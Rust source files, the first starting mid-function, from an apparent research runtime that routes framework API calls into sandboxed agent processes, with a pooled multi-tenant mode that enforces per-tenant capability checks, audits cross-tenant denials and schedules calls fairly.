        let tracing = self.tracer.enabled();
        let marshal_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        let req = Request {
            seq,
            api,
            args: args.to_vec(),
        };
        let chan = self.agents[&partition].chan;
        let req_wire = req.encode();
        let frame_len = req_wire.len() as u64;
        let req = if batched {
            req
        } else {
            self.kernel
                .ipc_send(self.host, chan, &req_wire)
                .map_err(|_| CallError::AgentUnavailable(partition))?;
            let delivered = self
                .kernel
                .ipc_recv(agent_pid, chan)
                .map_err(|_| CallError::AgentUnavailable(partition))?
                .expect("request just sent");
            Request::decode(&delivered).expect("self-encoded frame")
        };
        if tracing {
            let now = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Marshal,
                seq,
                api: Some(api),
                partition: Some(partition),
                thread,
                start_ns: marshal_t0,
                end_ns: now,
                bytes: frame_len,
            });
        }

        // Exactly-once: a re-delivered request whose execution already
        // completed (the agent died in the response window) is answered
        // from the completion journal without re-running side effects.
        if let Some(cached) = self.agents[&partition].cache.replay(req.seq) {
            let cached = cached.clone();
            let agent = self.agents.get_mut(&partition).expect("agent exists");
            agent.calls += 1;
            // The host has its answer: the journal entry is acked (and
            // prunable) the moment the replay is served.
            agent.cache.ack(req.seq);
            self.stats.rpc_calls += 1;
            self.call_log.push(api);
            if tracing {
                let now = self.kernel.now_ns();
                self.tracer.note_journal_hit(seq);
                self.tracer.span(SpanEvent {
                    phase: SpanPhase::Replay,
                    seq,
                    api: Some(api),
                    partition: Some(partition),
                    thread,
                    start_ns: now,
                    end_ns: now,
                    bytes: 0,
                });
            }
            if self.policy.sandbox != SandboxLevel::None && !self.agents[&partition].sealed {
                self.seal_agent(partition);
            }
            return Ok(Dispatched {
                value: cached,
                has_response: false,
                booked: true,
                touched: Vec::new(),
                complete_ns: self.kernel.timeline_ns(agent_pid),
                resp_t0: 0,
                resp_len: 0,
                req_frame: None,
                resp_frame: None,
            });
        }

        // From here the agent does the work: charge its timeline.
        if self.pipelining {
            self.kernel.set_time_context(Some(agent_pid));
        }

        // --- data plane: move object arguments ---
        let mut needed = Vec::new();
        for a in &req.args {
            a.collect_objects(&mut needed);
        }
        // Pooled capability gate: a call naming another tenant's object
        // is refused *here* — before hazard merges, payload moves, or
        // execution — so no foreign byte ever reaches the shared agent
        // on the caller's behalf. O(args × log objects), independent of
        // the tenant count.
        if self.pooled() && thread != ThreadId::MAIN {
            for obj in &needed {
                if !self.tenant_may_access(thread, *obj) {
                    return Err(self.deny_cross_tenant(thread, partition, *obj));
                }
            }
        }
        // Object-table hazards: consuming an object a still-in-flight
        // call touched orders this call after *that producer only* —
        // the agent's timeline merges to the producer's completion.
        for obj in &needed {
            if let Some(&ns) = self.last_touch.get(obj) {
                self.kernel.advance_timeline_to(agent_pid, ns);
            }
        }
        for dep in deps {
            let ns = self.ready_ns(*dep);
            self.kernel.advance_timeline_to(agent_pid, ns);
        }
        for obj in &needed {
            self.move_to_agent(thread, partition, seq, *obj, agent_pid)?;
        }

        // --- execute in the agent's process context ---
        let exec_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        let watermark = self.objects.next_id_watermark();
        let mut ctx = ApiCtx::new(&mut self.kernel, &mut self.objects, agent_pid);
        let exec_result = execute(&self.reg, api, &req.args, &mut ctx);
        let exploit_log = std::mem::take(&mut ctx.exploit_log);
        drop(ctx);
        self.exploit_log.extend(exploit_log);
        if tracing {
            let now = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Execute,
                seq,
                api: Some(api),
                partition: Some(partition),
                thread,
                start_ns: exec_t0,
                end_ns: now,
                bytes: 0,
            });
        }

        let result = match exec_result {
            Ok(v) => v,
            Err(e) if e.is_crash() => {
                if tracing {
                    self.audit_agent_crash(partition, seq, api, agent_pid, thread);
                }
                return Err(CallError::AgentCrashed(partition));
            }
            Err(e) => return Err(CallError::Framework(e)),
        };

        // Track objects defined during this call in the current state —
        // a range scan over ids past the watermark, not a store-wide one.
        let new_ids: Vec<ObjectId> = self.objects.ids_since(watermark).collect();
        for id in &new_ids {
            self.define_on(thread, *id);
        }

        // --- eager copy-back without LDC ---
        if !self.policy.lazy_data_copy {
            let mut back: Vec<ObjectId> = needed.clone();
            back.extend(result.as_obj());
            for obj in back {
                if let Some(meta) = self.objects.meta(obj) {
                    // Shm-resident payloads never copy back: the host's
                    // view of the segment is the object.
                    if meta.home == agent_pid && meta.shm.is_none() {
                        let len = meta.len();
                        let copy_t0 = if tracing { self.kernel.now_ns() } else { 0 };
                        self.objects
                            .migrate_direct(&mut self.kernel, obj, self.host)
                            .map_err(|_| CallError::StateLost(obj))?;
                        self.stats.host_copies += 1;
                        self.charge_transport(len);
                        if tracing {
                            let now = self.kernel.now_ns();
                            self.tracer.add_eager_bytes(seq, len);
                            self.tracer.span(SpanEvent {
                                phase: SpanPhase::DataCopy,
                                seq,
                                api: Some(api),
                                partition: Some(partition),
                                thread,
                                start_ns: copy_t0,
                                end_ns: now,
                                bytes: len,
                            });
                        }
                        self.reapply_all(obj);
                    }
                }
            }
        }

        // The call is now complete agent-side: journal it *before* the
        // response leg, so a crash in the response window is recoverable
        // by replaying the journal instead of re-executing side effects.
        // Pooled mode tags the entry with its tenant and mints the
        // tenant's capability slots for everything the call legitimately
        // touched or created — the agent-side record of which namespaces
        // it has admitted, carried across restarts with the journal.
        let journal_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        let tenant_tag = (self.pooled() && thread != ThreadId::MAIN).then_some(thread.0);
        {
            let agent = self.agents.get_mut(&partition).expect("agent exists");
            agent
                .cache
                .complete_tagged(req.seq, result.clone(), tenant_tag);
            if let Some(t) = tenant_tag {
                let slots = agent.caps.entry(t).or_default();
                slots.extend(needed.iter().copied());
                slots.extend(new_ids.iter().copied());
                slots.extend(result.as_obj());
            }
        }
        if tracing {
            let now = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Journal,
                seq,
                api: Some(api),
                partition: Some(partition),
                thread,
                start_ns: journal_t0,
                end_ns: now,
                bytes: 0,
            });
        }

        // One-shot injected crash in exactly that window (test hook).
        if self.crash_before_response == Some(partition) {
            self.crash_before_response = None;
            self.kernel.deliver_fault(agent_pid, FaultKind::Abort, None);
            return Err(CallError::AgentCrashed(partition));
        }

        // --- response frame agent → host (sent; consumed at retire) ---
        // In batched mode the frame is buffered too: the batch's single
        // response frame is sent at flush and consumed when the batch's
        // first member retires.
        let resp_t0 = if tracing { self.kernel.now_ns() } else { 0 };
        let resp = Response {
            seq: req.seq,
            result: result.clone(),
        };
        let resp_frame = resp.encode();
        let resp_len = resp_frame.len() as u64;
        if !batched {
            self.kernel
                .ipc_send(agent_pid, chan, &resp_frame)
                .map_err(|_| CallError::AgentCrashed(partition))?;
        }

        // Seal the filter after the first completed call (§4.4.1).
        if self.policy.sandbox != SandboxLevel::None && !self.agents[&partition].sealed {
            self.seal_agent(partition);
        }

        // The agent is done with this call: everything it consumed or
        // produced becomes ready at its current timeline instant.
        let complete_ns = self.kernel.timeline_ns(agent_pid);
        let mut touched: Vec<ObjectId> = needed;
        touched.extend(result.as_obj());
        for obj in touched.iter().chain(new_ids.iter()) {
            self.last_touch.insert(*obj, complete_ns);
        }
        // The batch's hazard set must also cover objects merely *defined*
        // by a member (a host deref of one flushes the batch first).
        if batched {
            touched.extend(new_ids.iter().copied());
        }

        Ok(Dispatched {
            value: result,
            has_response: !batched,
            booked: false,
            touched,
            complete_ns,
            resp_t0,
            resp_len,
            req_frame: batched.then_some(req_wire),
            resp_frame: batched.then_some(resp_frame),
        })
    }
}
