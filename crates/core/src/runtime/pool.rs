//! Pooled multi-tenant serving: N concurrent pipelines share the four
//! `part0..part3` agent processes instead of spawning a set each.
//!
//! The per-thread model (§6 of the paper) isolates threads by giving
//! each its own agents — 5N processes for N pipelines. The pooled mode
//! keeps the paper's isolation *boundaries* (address spaces, temporal
//! permissions, sealed filters) but shares the agent processes: 4 + N
//! processes, where each tenant contributes only its own lightweight
//! pipeline context. Three mechanisms make the sharing safe and fair:
//!
//! * **Tenant namespaces** — every object records its defining tenant
//!   (`Runtime::owner_of`); the dispatch gate refuses any call that
//!   names another tenant's object before a single payload byte moves,
//!   with a [`AuditRecord::CrossTenantDenied`] audit entry.
//! * **Capability slots** — each shared agent keeps a per-tenant table
//!   of admitted object handles (`Agent::caps`), minted on the owning
//!   tenant's own calls and carried across restarts with the journal,
//!   so a respawned agent re-admits every namespace.
//! * **Fair scheduling** — submissions enqueue into per-pool
//!   deficit-round-robin run queues
//!   ([`DrrScheduler`](freepart_simos::DrrScheduler)); `pump` drains
//!   them so a chatty tenant cannot starve the rest (bounded by the
//!   quantum, asserted by the starvation-freedom proptests).

use super::{CallError, Runtime, ThreadId};
use crate::partition::PartitionId;
use crate::trace::AuditRecord;
use freepart_frameworks::api::ApiId;
use freepart_frameworks::{ObjectId, ObjectKind, Value};
use freepart_simos::Perms;
use std::fmt;

/// Identifier of one tenant pipeline in pooled mode. Wraps the tenant's
/// application-thread number: tenant `t` drives framework state and
/// owns objects as `ThreadId(t)`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct TenantId(pub u32);

impl TenantId {
    /// The application thread this tenant's calls run on.
    pub fn thread(self) -> ThreadId {
        ThreadId(self.0)
    }
}

impl fmt::Display for TenantId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "tenant{}", self.0)
    }
}

/// Handle to a queued pooled call ([`Runtime::tenant_submit`]). Redeem
/// with [`Runtime::tenant_wait`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct TenantHandle(pub(super) u64);

impl TenantHandle {
    /// The ticket id of the queued call.
    pub fn id(self) -> u64 {
        self.0
    }
}

/// One queued (or completed) pooled call, with the scheduler snapshots
/// that turn its completion into a fairness measurement.
#[derive(Debug)]
pub(super) struct Ticket {
    tenant: TenantId,
    api: ApiId,
    args: Vec<Value>,
    /// The pool partition the call is bound for.
    pool: PartitionId,
    /// Items already queued for this tenant at submission (backlog
    /// position — feeds the starvation bound).
    own_ahead: usize,
    /// Virtual time at submission.
    enqueue_ns: u64,
    /// Pool items served when this ticket enqueued.
    pool_served_at: u64,
    /// This tenant's served cost on the pool when the ticket enqueued.
    tenant_served_at: u64,
    /// The outcome, once pumped.
    done: Option<Result<Value, CallError>>,
    /// Enqueue → retirement, virtual ns.
    latency_ns: Option<u64>,
    /// Items served to *other* tenants of the same pool between this
    /// ticket's enqueue and its dequeue.
    foreign_served: Option<u64>,
}

impl Runtime {
    // ------------------------------------------------------------------
    // Tenant lifecycle
    // ------------------------------------------------------------------

    /// Admits a new tenant pipeline to the shared pools: one fresh
    /// framework-state machine and one lightweight pipeline process —
    /// *no* agent set. The whole point of pooling: process count grows
    /// 4 + N, not 5N.
    ///
    /// # Panics
    ///
    /// When the runtime was not installed with [`crate::policy::Policy::pooled`]
    /// set (use [`crate::policy::Policy::freepart_pooled`]).
    pub fn spawn_tenant(&mut self) -> TenantId {
        assert!(
            self.pool_sched.is_some(),
            "spawn_tenant requires Policy::pooled (see Policy::freepart_pooled)"
        );
        let thread = ThreadId(self.next_thread);
        self.next_thread += 1;
        self.states.insert(
            thread,
            crate::state::StateMachine::new(self.policy.temporal_protection),
        );
        let pid = self.kernel.spawn(&format!("tenant:{}", thread.0));
        self.tenant_pids.insert(thread.0, pid);
        TenantId(thread.0)
    }

    /// Live tenants admitted to the pools.
    pub fn tenant_count(&self) -> usize {
        self.tenant_pids.len()
    }

    /// One tenant's pipeline process. Grants in the kernel's segment
    /// tables name this pid, which is what lets a leak verdict ("no
    /// view of the victim's segment was ever granted to the attacker")
    /// be re-derived from a commit-log replay alone.
    pub fn tenant_pid(&self, tenant: TenantId) -> Option<freepart_simos::Pid> {
        self.tenant_pids.get(&tenant.0).copied()
    }

    /// Pooled process census: `(shared agents, tenant processes)`. The
    /// deployment's total is the sum plus the host — versus
    /// `5N` (agents × tenants + contexts) for per-tenant agent sets.
    pub fn pooled_process_count(&self) -> (usize, usize) {
        (self.agents.len(), self.tenant_pids.len())
    }

    // ------------------------------------------------------------------
    // The pooled call interface
    // ------------------------------------------------------------------

    /// Queues one hooked call for `tenant` into its API's pool run
    /// queue. The call executes when the deficit-round-robin scheduler
    /// reaches it (see [`Runtime::pump_one`] / [`Runtime::tenant_wait`]).
    ///
    /// # Errors
    ///
    /// [`CallError::UnknownApi`] for names outside the registry.
    pub fn tenant_submit(
        &mut self,
        tenant: TenantId,
        name: &str,
        args: &[Value],
    ) -> Result<TenantHandle, CallError> {
        let api = self
            .reg
            .id_of(name)
            .ok_or_else(|| CallError::UnknownApi(name.to_owned()))?;
        let pool = self.partition_of(api);
        let sched = self
            .pool_sched
            .as_mut()
            .expect("tenant_submit requires pooled mode");
        let ticket_id = self.next_ticket;
        self.next_ticket += 1;
        let own_ahead = sched.enqueue(pool.0, tenant.0, ticket_id, 1);
        let pool_served_at = sched.served(pool.0);
        let tenant_served_at = sched.served_cost(pool.0, tenant.0);
        self.tickets.insert(
            ticket_id,
            Ticket {
                tenant,
                api,
                args: args.to_vec(),
                pool,
                own_ahead,
                enqueue_ns: self.kernel.now_ns(),
                pool_served_at,
                tenant_served_at,
                done: None,
                latency_ns: None,
                foreign_served: None,
            },
        );
        Ok(TenantHandle(ticket_id))
    }

    /// Serves the next queued pooled call in scheduler order: pools are
    /// visited round-robin, tenants within a pool deficit-round-robin.
    /// Returns the completed call's handle, or `None` when every run
    /// queue is idle.
    pub fn pump_one(&mut self) -> Option<TenantHandle> {
        let pools: Vec<PartitionId> = self.routes.partitions.iter().copied().collect();
        if pools.is_empty() {
            return None;
        }
        let n = pools.len();
        for i in 0..n {
            let pool = pools[(self.pool_cursor + i) % n];
            let dequeued = self.pool_sched.as_mut()?.dequeue(pool.0);
            let Some((_, ticket_id)) = dequeued else {
                continue;
            };
            self.pool_cursor = (self.pool_cursor + i + 1) % n;
            let t = self.tickets.get_mut(&ticket_id).expect("queued ticket");
            let tenant = t.tenant;
            let api = t.api;
            let args = std::mem::take(&mut t.args);
            // Fairness accounting happens at dequeue: the sum below
            // includes this item for both counters, so they cancel.
            let sched = self.pool_sched.as_ref().expect("pooled");
            let foreign = (sched.served(pool.0) - t.pool_served_at)
                .saturating_sub(sched.served_cost(pool.0, tenant.0) - t.tenant_served_at);
            let outcome = self.call_id_on(tenant.thread(), api, &args);
            let now = self.kernel.now_ns();
            let t = self.tickets.get_mut(&ticket_id).expect("queued ticket");
            let latency = now.saturating_sub(t.enqueue_ns);
            t.done = Some(outcome);
            t.latency_ns = Some(latency);
            t.foreign_served = Some(foreign);
            self.tenant_lat.entry(tenant.0).or_default().push(latency);
            return Some(TenantHandle(ticket_id));
        }
        None
    }

    /// Drains every pool run queue ([`Runtime::pump_one`] to idle).
    pub fn pump_all(&mut self) {
        while self.pump_one().is_some() {}
    }

    /// Retires a pooled call: pumps the scheduler until `handle`'s
    /// ticket completes and returns its outcome. Waiting on an
    /// already-completed ticket returns the cached outcome.
    ///
    /// # Errors
    ///
    /// The queued call's own [`CallError`], or [`CallError::UnknownApi`]
    /// for a handle this runtime never issued.
    pub fn tenant_wait(&mut self, handle: TenantHandle) -> Result<Value, CallError> {
        loop {
            match self.tickets.get(&handle.0) {
                None => {
                    return Err(CallError::UnknownApi(format!(
                        "unknown pooled ticket {}",
                        handle.0
                    )))
                }
                Some(t) if t.done.is_some() => {
                    return self.tickets[&handle.0].done.clone().expect("checked above");
                }
                Some(_) => {
                    if self.pump_one().is_none() {
                        return Err(CallError::UnknownApi(format!(
                            "pooled ticket {} stuck: scheduler idle",
                            handle.0
                        )));
                    }
                }
            }
        }
    }

    /// Synchronous pooled call: [`Runtime::tenant_submit`] followed by
    /// [`Runtime::tenant_wait`]. Note the wait may serve *other*
    /// tenants' queued calls first — that is the fairness contract.
    ///
    /// # Errors
    ///
    /// See [`CallError`].
    pub fn call_tenant(
        &mut self,
        tenant: TenantId,
        name: &str,
        args: &[Value],
    ) -> Result<Value, CallError> {
        let h = self.tenant_submit(tenant, name, args)?;
        self.tenant_wait(h)
    }

    // ------------------------------------------------------------------
    // Tenant data plane
    // ------------------------------------------------------------------

    /// Allocates application data owned by one tenant: homed in the
    /// tenant's own pipeline process and registered with *its* state
    /// machine only — the capability gate denies every other tenant.
    pub fn host_data_for(&mut self, tenant: TenantId, label: &str, bytes: &[u8]) -> ObjectId {
        let home = self
            .tenant_pids
            .get(&tenant.0)
            .copied()
            .unwrap_or(self.host);
        let id = self
            .objects
            .create_with_data(&mut self.kernel, home, ObjectKind::Blob, label, bytes)
            .expect("tenant process is alive");
        self.define_on(tenant.thread(), id);
        id
    }

    /// Reads an object's payload from one tenant's perspective, through
    /// the capability gate: foreign objects are denied (and audited)
    /// without touching a byte. Segment-backed payloads are read through
    /// a view granted to the *tenant's own process* — so the grant
    /// table itself records which tenant can see which segment, and the
    /// cross-tenant-leak verdict can be re-derived from the commit log.
    ///
    /// # Errors
    ///
    /// [`CallError::TenantDenied`] for foreign objects;
    /// [`CallError::StateLost`] when the payload died with its process.
    pub fn tenant_fetch(&mut self, tenant: TenantId, id: ObjectId) -> Result<Vec<u8>, CallError> {
        let thread = tenant.thread();
        if !self.tenant_may_access(thread, id) {
            let pool = self
                .objects
                .meta(id)
                .map(|m| {
                    self.agents
                        .values()
                        .find(|a| a.pid == m.home)
                        .map_or(PartitionId(0), |a| a.partition)
                })
                .unwrap_or(PartitionId(0));
            return Err(self.deny_cross_tenant(thread, pool, id));
        }
        let meta = self
            .objects
            .meta(id)
            .ok_or(CallError::StateLost(id))?
            .clone();
        let tpid = self.tenant_pids.get(&tenant.0).copied();
        if let (Some((seg, len)), Some(pid)) = (meta.shm, tpid) {
            let viewed = self
                .kernel
                .shm_segment(seg)
                .is_some_and(|s| s.grant_of(pid).is_some() && s.is_mapped(pid));
            if !viewed {
                self.kernel
                    .shm_grant(seg, pid, Perms::R)
                    .and_then(|()| self.kernel.shm_map(pid, seg))
                    .map_err(|_| CallError::StateLost(id))?;
                if self.tracer.enabled() {
                    let at_ns = self.kernel.now_ns();
                    self.tracer.record_audit(AuditRecord::ShmGrant {
                        at_ns,
                        object: id,
                        segment: seg,
                        pid,
                        bytes: len,
                    });
                }
            }
            return self
                .kernel
                .shm_read(pid, seg)
                .map_err(|_| CallError::StateLost(id));
        }
        self.fetch_bytes(id)
    }

    // ------------------------------------------------------------------
    // The capability gate
    // ------------------------------------------------------------------

    /// Whether `thread`'s namespace admits `obj`: its own objects,
    /// shared annotated host data, objects owned by the main thread
    /// (service-global fixtures), and untracked objects pass; another
    /// tenant's objects do not.
    pub fn tenant_may_access(&self, thread: ThreadId, obj: ObjectId) -> bool {
        if thread == ThreadId::MAIN || self.shared_objs.contains(&obj) {
            return true;
        }
        match self.owner_of.get(&obj) {
            None => true,
            Some(&owner) => owner == thread || owner == ThreadId::MAIN,
        }
    }

    /// Books one cross-tenant denial: bumps the stats counter, writes
    /// the [`AuditRecord::CrossTenantDenied`] audit entry, and builds
    /// the error. The deny happens *before* any payload movement.
    pub(super) fn deny_cross_tenant(
        &mut self,
        thread: ThreadId,
        partition: PartitionId,
        obj: ObjectId,
    ) -> CallError {
        self.stats.tenant_denials += 1;
        let owner = self.owner_of.get(&obj).map_or(0, |t| t.0);
        if self.tracer.enabled() {
            let at_ns = self.kernel.now_ns();
            self.tracer.record_audit(AuditRecord::CrossTenantDenied {
                at_ns,
                tenant: thread.0,
                partition,
                object: obj,
                owner,
            });
        }
        CallError::TenantDenied {
            tenant: thread.0,
            object: obj,
        }
    }

    // ------------------------------------------------------------------
    // Fairness observability
    // ------------------------------------------------------------------

    /// Per-call latencies (enqueue → retirement, virtual ns) recorded
    /// for one tenant, in completion order.
    pub fn tenant_latencies(&self, tenant: TenantId) -> &[u64] {
        self.tenant_lat.get(&tenant.0).map_or(&[], |v| v.as_slice())
    }

    /// Fairness measurement for a completed ticket:
    /// `(foreign_served, own_ahead)` — how many items the scheduler
    /// served to *other* tenants of the same pool between this call's
    /// enqueue and its dequeue, and how many of the tenant's own items
    /// were queued ahead of it. The starvation-freedom proptest bounds
    /// `foreign_served` by the DRR window. `None` until pumped.
    pub fn ticket_fairness(&self, handle: TenantHandle) -> Option<(u64, usize)> {
        let t = self.tickets.get(&handle.0)?;
        Some((t.foreign_served?, t.own_ahead))
    }

    /// The pool partition a ticket was queued on (fairness bounds are
    /// per-pool: only same-pool service counts as foreign).
    pub fn ticket_pool(&self, handle: TenantHandle) -> Option<PartitionId> {
        self.tickets.get(&handle.0).map(|t| t.pool)
    }
}
