//! The FreePart runtime: hooked API calls become RPCs into isolated
//! agent processes (paper §4.3–§4.4, Fig. 5 right).
//!
//! [`Runtime::install`] spawns the host process plus one agent process
//! per partition, each with its own address space, shared-memory ring to
//! the host, and an RX code page (the target of code-rewrite exploits).
//! [`Runtime::call`] is the hooked interface: it marshals the request,
//! routes it to the right agent (type-neutral APIs follow the calling
//! context), moves object payloads according to the transport policy,
//! drives the framework-state machine's temporal permissions, executes
//! the API *in the agent's process context*, and handles agent crashes
//! with optional restart (at-least-once re-execution).
//!
//! Per-agent seccomp-style filters are sealed after each agent's first
//! completed call — the paper's "first execution unrestricted, then
//! restrict" design.
//!
//! ## Layering
//!
//! The runtime is split into a call plane and an object plane:
//!
//! * [`callplane`](self) (`callplane.rs`) — the sync + async dispatch
//!   surface: submission, the state-transition drain barrier, bounded
//!   pipelined windows, and retirement.
//! * `dispatch.rs` — one delivery attempt to an agent: request framing,
//!   journal replay, agent-context execution, response framing.
//! * `objstore.rs` — object residency: host data, host dereferences,
//!   per-object transport selection, and the temporal-grant sweep.
//! * [`transport`] — the [`transport::Transport`] trait with its three
//!   implementations: `Eager` (in-frame deep copy through the host),
//!   `Lazy` (LDC direct move on dereference), and `Shm` (zero-copy
//!   page-mapped shared-memory segments with per-process grants).
//! * `lifecycle.rs` — agent sealing, snapshots, restarts, and
//!   crash-audit classification.
//!
//! This file owns the shared types and the `Runtime` struct itself; the
//! submodules each reopen `impl Runtime` for their slice of behavior.

mod callplane;
mod controller;
mod dispatch;
mod lifecycle;
mod objstore;
mod pool;
pub mod transport;

pub use controller::AdaptiveKnobs;
pub use pool::{TenantHandle, TenantId};

use crate::partition::PartitionId;
use crate::policy::Policy;
use crate::rpc::CompletionCache;
use crate::state::{FrameworkState, StateMachine};
use crate::trace::Tracer;
use freepart_analysis::{HybridReport, SyscallProfile, TestCorpus};
use freepart_frameworks::api::{ApiId, ApiRegistry};
use freepart_frameworks::{ActionReport, FrameworkError, ObjectId, ObjectKind, ObjectStore, Value};
use freepart_simos::{Addr, ChannelId, DrrScheduler, Kernel, Perms, Pid, ShmId};
use std::collections::{BTreeMap, BTreeSet, VecDeque};
use std::fmt;

use callplane::{InFlight, PendingBatch};
use pool::Ticket;

/// Identifier of an application thread. Per the paper's §6, every
/// thread gets its **own set of agent processes** (and its own
/// framework-state machine), avoiding cross-thread races on agents.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ThreadId(pub u32);

impl ThreadId {
    /// The application's main thread.
    pub const MAIN: ThreadId = ThreadId(0);
}

impl fmt::Display for ThreadId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "thread{}", self.0)
    }
}

/// Partition-id namespace stride per thread: thread `t`'s instance of
/// partition `p` is `PartitionId(t * THREAD_STRIDE + p)`.
const THREAD_STRIDE: u32 = 1_000;

/// The default per-partition in-flight window (also the adaptive
/// controller's floor for sizing its pipeline knob).
pub(super) const DEFAULT_PIPELINE_WINDOW: usize = 4;

pub(super) fn thread_partition(thread: ThreadId, p: PartitionId) -> PartitionId {
    PartitionId(thread.0 * THREAD_STRIDE + p.0)
}

impl Runtime {
    /// Whether the runtime serves in pooled multi-tenant mode
    /// (`Policy::pooled`).
    pub fn pooled(&self) -> bool {
        self.pool_sched.is_some()
    }

    /// Resolves the partition a thread's call actually routes to: in
    /// pooled mode every tenant shares the base `part0..part3` agent
    /// pools (no per-thread striping); otherwise each thread owns its
    /// striped agent set.
    pub(super) fn route_partition(&self, thread: ThreadId, base: PartitionId) -> PartitionId {
        if self.pool_sched.is_some() {
            base
        } else {
            thread_partition(thread, base)
        }
    }
}

/// Precomputed `ApiId → PartitionId` routing, shared by install-time
/// agent creation, per-thread agent spawning, and the per-call hot path.
/// Built once from the partition plan and the hybrid categorization so
/// no caller re-runs the full `plan.group` computation.
#[derive(Debug, Clone)]
struct RoutingTable {
    /// Canonical partition per catalog API.
    by_api: BTreeMap<ApiId, PartitionId>,
    /// API universe per partition (each agent's filter-building set).
    groups: BTreeMap<PartitionId, BTreeSet<ApiId>>,
    /// Every partition an agent set must cover (plan partitions plus
    /// any partition the grouping routed an API to).
    partitions: BTreeSet<PartitionId>,
}

impl RoutingTable {
    fn build(reg: &ApiRegistry, report: &HybridReport, policy: &Policy) -> RoutingTable {
        let mut by_api = BTreeMap::new();
        let mut groups: BTreeMap<PartitionId, BTreeSet<ApiId>> = BTreeMap::new();
        for spec in reg.iter() {
            let p = policy.plan.partition_of(spec.id, report.type_of(spec.id));
            by_api.insert(spec.id, p);
            groups.entry(p).or_default().insert(spec.id);
        }
        let mut partitions: BTreeSet<PartitionId> = policy.plan.partitions().into_iter().collect();
        partitions.extend(groups.keys().copied());
        RoutingTable {
            by_api,
            groups,
            partitions,
        }
    }
}

/// One isolated agent process.
#[derive(Debug)]
pub struct Agent {
    /// The partition this agent serves.
    pub partition: PartitionId,
    /// Its current process (changes across restarts).
    pub pid: Pid,
    /// Ring channel to the host.
    pub chan: ChannelId,
    /// RX code page — what a code-rewrite exploit tries to patch.
    pub code_page: Addr,
    /// APIs assigned to this agent (filter-building universe).
    pub apis: BTreeSet<ApiId>,
    /// True once the syscall filter is installed and locked.
    pub sealed: bool,
    /// Completed calls.
    pub calls: u64,
    cache: CompletionCache,
    /// Pooled mode: per-tenant capability slots — the object handles
    /// each tenant's namespace has been admitted to at this agent.
    /// Minted when a tenant's own call defines or legitimately consumes
    /// an object here; checked (against ownership) before any handle or
    /// shm grant crosses into the agent on a tenant's behalf. Carried
    /// across restarts with the journal, so a respawn re-admits every
    /// tenant's namespace.
    caps: BTreeMap<u32, BTreeSet<ObjectId>>,
}

impl Agent {
    /// Completions still journalled (not yet pruned below the ack
    /// watermark).
    pub fn journal_len(&self) -> usize {
        self.cache.len()
    }

    /// Highest response sequence the host has acknowledged consuming;
    /// journal entries at or below it are pruned.
    pub fn journal_watermark(&self) -> u64 {
        self.cache.acked_watermark()
    }

    /// Capability slots held by one tenant's namespace at this agent
    /// (pooled mode; 0 for tenants never admitted here).
    pub fn cap_count(&self, tenant: u32) -> usize {
        self.caps.get(&tenant).map_or(0, BTreeSet::len)
    }

    /// Journal sequence numbers currently held for one tenant's calls
    /// (pooled mode): the per-tenant slice of the completion journal,
    /// for proving exactly-once replay per namespace after a restart.
    pub fn journal_entries_for(&self, tenant: u32) -> Vec<u64> {
        self.cache.tenant_entries(tenant)
    }

    /// Tenants with at least one capability slot at this agent.
    pub fn cap_tenants(&self) -> Vec<u32> {
        self.caps.keys().copied().collect()
    }
}

/// Where a stateful object's payload lived when it was snapshotted,
/// with the write epoch observed there. Two equal `SnapshotPlace`s at
/// the same home pid prove the payload bytes unchanged (the bump
/// allocator never reuses addresses, segments never change identity),
/// which is what lets an incremental snapshot skip the copy.
#[derive(Debug, Clone, PartialEq, Eq)]
enum SnapshotPlace {
    /// No byte payload (or nothing comparable) — always copied.
    None,
    /// Private buffer pages in the home agent.
    Buffer { addr: Addr, epoch: u64 },
    /// A kernel-owned shared-memory segment.
    Shm { seg: ShmId, epoch: u64 },
}

/// A snapshotted stateful object (for restart restoration, §A.2.4).
#[derive(Debug, Clone)]
struct SnapshotEntry {
    object: ObjectId,
    kind: ObjectKind,
    label: String,
    bytes: Vec<u8>,
    /// The pid the object was homed at when snapshotted.
    home: Pid,
    /// Payload location + write epoch at snapshot time.
    place: SnapshotPlace,
}

/// A pre-forked spare agent process, waiting to adopt a crashed
/// sibling's partition: pid + RX code page, nothing else (channel,
/// journal, and shm views are adopted from the crashed agent).
#[derive(Debug, Clone, Copy)]
struct Spare {
    pid: Pid,
    code_page: Addr,
}

/// Per-partition supervisor state: the token bucket of
/// [`RestartBudget`](crate::policy::RestartBudget) plus the sticky
/// degraded flag.
#[derive(Debug, Clone, Copy)]
struct RestartGovernor {
    tokens: u32,
    last_refill_ns: u64,
    /// Consecutive restarts without the bucket refilling to full —
    /// drives exponential backoff.
    streak: u32,
    /// Once true, the partition fails fast forever (no respawns).
    degraded: bool,
}

/// Errors surfaced by [`Runtime::call`].
#[derive(Debug, Clone, PartialEq)]
pub enum CallError {
    /// The API name is not in the registry.
    UnknownApi(String),
    /// The target agent is dead and restart is disabled.
    AgentUnavailable(PartitionId),
    /// The agent crashed (again) while executing this call.
    AgentCrashed(PartitionId),
    /// An argument object's payload died with a crashed process and
    /// could not be restored (§6 "Restoring States of Crashed Process").
    StateLost(ObjectId),
    /// Pooled mode: the calling tenant's capability namespace does not
    /// admit this object — a cross-tenant handle was denied at the
    /// shared agent's gate (and audited).
    TenantDenied {
        /// The tenant whose call was denied.
        tenant: u32,
        /// The foreign object it tried to reach.
        object: ObjectId,
    },
    /// Ordinary framework failure (bad args, missing file, parse error).
    Framework(FrameworkError),
}

impl fmt::Display for CallError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CallError::UnknownApi(n) => write!(f, "unknown API {n}"),
            CallError::AgentUnavailable(p) => write!(f, "agent {p} is down"),
